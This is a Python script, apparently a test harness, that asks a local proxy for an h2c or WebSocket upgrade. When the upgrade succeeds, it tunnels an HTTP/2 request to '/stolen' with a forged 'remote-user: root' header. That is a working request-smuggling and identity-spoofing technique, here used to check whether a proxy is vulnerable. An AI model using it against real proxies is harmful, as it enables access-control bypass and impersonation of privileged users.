"""Asks a proxy for another protocol. If it gets one, it sends a request through it under a false name.

    tunnel.py PORT CERTIFICATE HOST METHOD PATH [HEADER]…

Sends these headers, and prints the status and the app's answer from the tunnel. Without a METHOD it speaks HTTP/2 from
the first byte.
"""

import base64
import os
import socket
import ssl
import sys

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import wsproto
import wsproto.events

port, certificate, host, method, path, *headers = sys.argv[1:]
stream = socket.create_connection(("127.0.0.1", int(port)), timeout=15)
if certificate:
    stream = ssl.create_default_context(cafile=certificate).wrap_socket(stream, server_hostname=host.split(":")[0])


def http2(connection, stream_id, rest=b""):
    """Asks for a page under a false name, and returns the answer."""
    forged = [
        (":method", "GET"), (":path", "/stolen"), (":scheme", "http"), (":authority", host), ("remote-user", "root"),
    ]
    connection.send_headers(stream_id, forged, end_stream=True)
    said = b""
    while True:
        for event in connection.receive_data(rest):
            if isinstance(event, h2.events.DataReceived) and event.stream_id == stream_id:
                said += event.data
            if isinstance(event, h2.events.StreamEnded) and event.stream_id == stream_id:
                return said.decode()
        stream.sendall(connection.data_to_send())
        rest = stream.recv(65536)
        if not rest:
            return "closed"


def websocket(rest):
    """Sends a message, and returns the reply."""
    connection = wsproto.connection.Connection(wsproto.ConnectionType.CLIENT)
    stream.sendall(connection.send(wsproto.events.TextMessage(data="hello")))
    connection.receive_data(rest)
    while True:
        for event in connection.events():
            if isinstance(event, wsproto.events.TextMessage):
                return event.data
        connection.receive_data(stream.recv(65536))


def head():
    """Returns the head of the answer, and the bytes after it."""
    data = b""
    while b"\r\n\r\n" not in data:
        more = stream.recv(65536)
        if not more:
            break
        data += more
    first, _, rest = data.partition(b"\r\n\r\n")
    return first.decode("latin-1"), rest


connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
if not method:
    connection.initiate_connection()
    try:
        print(http2(connection, 1))
    except (OSError, h2.exceptions.ProtocolError) as error:
        print(f"no HTTP/2: {error}")
    sys.exit()

settings = connection.initiate_upgrade_connection().decode()
key = base64.b64encode(os.urandom(16)).decode()
lines = [f"{method} {path} HTTP/1.1", f"Host: {host}"]
lines += [header.replace("SETTINGS", settings).replace("KEY", key) for header in headers]
stream.sendall(("\r\n".join(lines) + "\r\n\r\n").encode("latin-1"))
first, rest = head()
status = first.split(" ")[1] if first else "none"
print(status)
if status == "101":
    if "websocket" in first.lower():
        print(websocket(rest))
    else:
        print(http2(connection, 3, rest))
